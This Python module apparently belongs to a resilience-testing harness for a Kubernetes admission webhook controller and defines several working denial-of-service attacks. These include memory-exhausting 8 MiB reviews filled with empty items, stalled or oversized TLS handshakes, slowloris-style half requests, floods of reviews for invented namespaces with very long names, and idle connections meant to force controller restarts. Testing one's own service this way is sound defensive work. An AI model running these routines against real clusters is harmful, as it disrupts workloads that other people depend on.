"""Attacks on the controller's webhook: by strangers, who reach its port, and by what a tenant puts into a pod."""

from __future__ import annotations

import json
import secrets

from ..core.hand import Hand, Reached, Slot
from ..core.wire import client_hello, fat_client_hello, post, request
from ..world import controller
from .payloads import filled
from .registry import attack

# What an API server may send.
_REVIEW_BYTES = 8 * 1024 * 1024
_PREFIX = "attacker-"


def _with(before: bytes, item: bytes, after: bytes) -> bytes:
    """A review whose object is filled with items."""
    whole = json.dumps(controller.review({"filled": "here"})).encode()
    left, _, right = whole.partition(b'{"filled": "here"}')
    return filled(left + before, item, after + right, _REVIEW_BYTES - 1024)


_META = (
    b'{"apiVersion":"v1","kind":"Pod","metadata":{"name":"web-0","labels":{"agentwrit.io/inject":"true"},'
    b'"annotations":{"agentwrit.io/launch-token":"reader"}},"spec":{'
)


# What comes before the items, the item, what comes after. The first is what a tenant's pod may have, and the API
# server passes on: 600,000 empty variables.
_WEB = _META + b'"containers":[{"name":"web","image":"web:1"'
_REVIEWS = (
    (_WEB + b',"env":[', b"{}", b"]}]}}"),
    (_META + b'"strange":[', b'{"":0}', b'],"containers":[]}}'),
    (_META + b'"volumes":[', b"{}", b'],"containers":[]}}'),
    (b'{"metadata":{"ownerReferences":[', b"{}", b'],"labels":{"agentwrit.io/inject":"true"}},"spec":{}}'),
    (_WEB + b',"args":[', b'""', b"]}]}}"),
    (_META + b'"initContainers":[', b"{}", b'],"containers":[]}}'),
    (_WEB + b',"volumeMounts":[', b"{}", b"]}]}}"),
    (_META + b'"containers":[', b"{}", b"]}}"),
)


@attack("controller", (6, 24), short=(1,), brief=True)
async def webhook_reviews(hand: Hand) -> None:
    """Wants the controller killed for its memory, and with it all injection: reviews of 8 MiB that become much more
    when they are read."""

    async def one(slot: Slot) -> None:
        review = _with(*_REVIEWS[slot.number % len(_REVIEWS)])
        async with hand.connection("webhook", slot) as connection:
            while True:
                await hand.ask(connection, request("POST", "/mutate", review, {"Content-Type": "application/json"}))

    await hand.each(one, ramp=True)


@attack("controller", (300, 1_000), short=(8,))
async def webhook_handshakes(hand: Hand) -> None:
    """Wants the API server's handshakes to wait until it gives up, and so no labelled pod to start: connections that are
    silent before the handshake or in the middle of it, or whose first message is as large as can be."""
    hello = client_hello(hand.context)
    parts = (b"", hello[: len(hello) // 2], hello, fat_client_hello(60_000))

    async def one(slot: Slot) -> None:
        async with hand.connection("webhook", slot, shake_hands=False) as connection:
            if part := parts[slot.number % len(parts)]:
                await hand.send(connection, part)
            await hand.until_ended(connection)

    await hand.each(one, ramp=True)


@attack("controller", (300, 1_000), short=(200,))
async def webhook_held(hand: Hand) -> None:
    """Wants places and memory after the handshake: idle connections, half heads, bodies that stall just before their
    end."""
    head = b"POST /mutate HTTP/1.1\r\nHost: a\r\n"
    parts = (
        b"",
        head,
        head + (b"X-Filler: " + b"f" * 1000 + b"\r\n") * 300,
        head + b"Content-Length: %d\r\n\r\n" % _REVIEW_BYTES + b" " * (_REVIEW_BYTES - 1),
        head + b"Content-Length: %d\r\nExpect: 100-continue\r\n\r\n" % _REVIEW_BYTES,
    )

    async def one(slot: Slot) -> None:
        async with hand.connection("webhook", slot) as connection:
            part = parts[slot.number % len(parts)]
            if part:
                await hand.send(connection, part)
            await hand.until_ended(connection)

    await hand.each(one, ramp=True)


def _asked_for_strangers(_: Reached, requests: dict[str, int]) -> list[str]:
    asked = sum(count for path, count in requests.items() if _PREFIX in path)
    return [f"the API server got {asked} requests for namespaces that a stranger made up"] if asked else []


@attack("controller", (32, 128), short=(8,), judge=_asked_for_strangers, brief=True)
async def webhook_strangers(hand: Hand) -> None:
    """Wants the API server and the log to do its work: reviews, from anybody, of pods in namespaces that don't exist,
    with names as long as can be."""

    async def one(slot: Slot) -> None:
        async with hand.connection("webhook", slot) as connection:
            while True:
                namespace = _PREFIX + secrets.token_hex(8)
                if slot.number % 4 == 0:
                    namespace += "x" * 100_000
                pod = controller.pod()
                pod["metadata"] |= {"name": "n" * 1000, "managedFields": []}
                await hand.ask(connection, post("/mutate", controller.review(pod, namespace)))

    await hand.each(one)


@attack("controller", (1_000, 3_000), short=(1,), brief=True)
async def controller_ops(hand: Hand) -> None:
    """Wants the kubelet to restart the controller: silent connections and half heads on its ops listener."""

    async def one(slot: Slot) -> None:
        async with hand.connection("ops", slot) as connection:
            if slot.number % 2:
                await hand.send(connection, b"GET /livez HTTP/1.1\r\nHost: a\r\n")
            await hand.until_ended(connection)

    await hand.each(one, ramp=True)
